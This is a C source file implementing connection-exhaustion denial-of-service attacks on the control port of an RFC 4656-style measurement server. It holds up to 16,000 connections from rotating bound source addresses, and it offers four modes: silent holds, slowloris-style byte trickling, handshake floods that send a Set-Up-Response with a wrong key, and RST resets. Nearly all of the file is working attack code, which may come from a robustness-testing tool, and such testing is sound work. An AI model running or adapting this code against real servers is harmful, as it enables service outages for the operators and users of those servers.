/* SPDX-License-Identifier: MIT */
/* Attacks by control connections: many at once, or many a second. Whatever the server closes is opened anew.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include "stranger.h"

enum { GREETING = 64, RESPONSE = 164, MOST = 16000, ANEW_A_SECOND = 5000, BETWEEN_OCTETS = 100 };

struct connection {
  int socket; /* -1: none */
  size_t heard, said;
  size_t next_free; /* index + 1 */
};

struct attack {
  const struct target *target;
  unsigned at_once; /* connections kept open */
  struct pace pace;
  void (*greeted)(struct attack *attack, struct connection *connection);
  struct connection connections[MOST];
  size_t first_free;
  int epoll;
  unsigned open;
  unsigned long opened, answered, closed;
};

static void leave(struct attack *attack, struct connection *connection)
{
  close(connection->socket);
  connection->socket = -1;
  connection->next_free = attack->first_free;
  attack->first_free = (size_t)(connection - attack->connections) + 1;
  attack->open--;
}

static void enter(struct attack *attack)
{
  struct sockaddr_in from = stranger_address(attack->target, attack->opened++);
  struct connection *connection = &attack->connections[attack->first_free - 1];
  struct epoll_event event = {.events = EPOLLIN, .data.ptr = connection};
  const int on = 1;
  int new = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (new < 0)
    give_up("socket");
  setsockopt(new, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
  if (bind(new, (struct sockaddr *)&from, sizeof from) < 0)
    give_up("bind");
  if ((connect(new, (const struct sockaddr *)&attack->target->server, sizeof from) < 0 &&
       errno != EINPROGRESS) ||
      epoll_ctl(attack->epoll, EPOLL_CTL_ADD, new, &event) < 0) {
    close(new); /* no port is free: next time */
    return;
  }
  attack->first_free = connection->next_free;
  *connection = (struct connection){.socket = new};
  attack->open++;
}

static void hear(struct attack *attack, struct connection *connection)
{
  char said[4096];
  ssize_t octets = recv(connection->socket, said, sizeof said, 0);
  if (octets < 0 && (errno == EAGAIN || errno == EINTR))
    return;
  if (octets <= 0) {
    attack->closed++;
    leave(attack, connection);
    return;
  }
  size_t before = connection->heard;
  connection->heard += (size_t)octets;
  if (before < GREETING && connection->heard >= GREETING)
    attack->greeted(attack, connection);
  else if (before >= GREETING)
    attack->answered++;
}

/* One octet to each connection that has been greeted. */
static void trickle(struct attack *attack)
{
  for (size_t i = 0; i < MOST; i++) {
    struct connection *connection = &attack->connections[i];
    if (connection->socket >= 0 && connection->heard >= GREETING && connection->said < RESPONSE)
      connection->said += send(connection->socket, connection->said == 3 ? "\1" : "", 1, MSG_NOSIGNAL) == 1;
  }
}

static void run(struct attack *attack, void (*each_while)(struct attack *attack))
{
  struct epoll_event events[256];
  int64_t next = monotonic_ns();
  attack->epoll = epoll_create1(0);
  for (size_t i = MOST; i-- > 0; attack->first_free = i + 1)
    attack->connections[i] = (struct connection){.socket = -1, .next_free = attack->first_free};
  while (!told_to_end) {
    for (unsigned due = due_now(&attack->pace); due > 0 && attack->open < attack->at_once; due--)
      enter(attack);
    if (each_while && monotonic_ns() >= next) {
      next += BETWEEN_OCTETS * INT64_C(1000000);
      each_while(attack);
    }
    int count = epoll_wait(attack->epoll, events, sizeof events / sizeof *events, 1);
    for (int i = 0; i < count; i++)
      hear(attack, events[i].data.ptr);
  }
  printf("%lu connections opened, %lu answered, %lu closed by the server, %u open at the end\n",
         attack->opened, attack->answered, attack->closed, attack->open);
}

static void begin(const struct target *target, unsigned at_once, unsigned a_second,
                  void (*greeted)(struct attack *attack, struct connection *connection),
                  void (*each_while)(struct attack *attack))
{
  struct attack *attack = calloc(1, sizeof *attack);
  if (!attack || at_once > MOST)
    give_up("connections");
  attack->target = target;
  attack->at_once = at_once;
  attack->pace = (struct pace){.a_second = a_second, .last = monotonic_ns()};
  attack->greeted = greeted;
  run(attack, each_while);
  free(attack);
}

static void say_nothing(struct attack *attack, struct connection *connection)
{
  (void)attack;
  (void)connection;
}

/* Set-Up-Response (RFC 4656, 3.1) with a token of a key that we don't have, of a KeyID that there is. */
static void say_wrong_key(struct attack *attack, struct connection *connection)
{
  uint8_t response[RESPONSE] = {[3] = 2};
  memcpy(response + 4, "monitor", 7);
  if (getrandom(response + 84, RESPONSE - 84, 0) < 0 ||
      send(connection->socket, response, sizeof response, MSG_NOSIGNAL) < 0)
    leave(attack, connection);
}

static void reset(struct attack *attack, struct connection *connection)
{
  const struct linger at_once = {.l_onoff = 1, .l_linger = 0};
  setsockopt(connection->socket, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
  leave(attack, connection);
}

void attack_silent(const struct target *target)
{
  begin(target, target->level, ANEW_A_SECOND, say_nothing, NULL);
}

void attack_slow(const struct target *target)
{
  begin(target, target->level, ANEW_A_SECOND, say_nothing, trickle);
}

void attack_handshakes(const struct target *target)
{
  begin(target, MOST, target->level, say_wrong_key, NULL);
}

void attack_resets(const struct target *target)
{
  begin(target, MOST, target->level, reset, NULL);
}
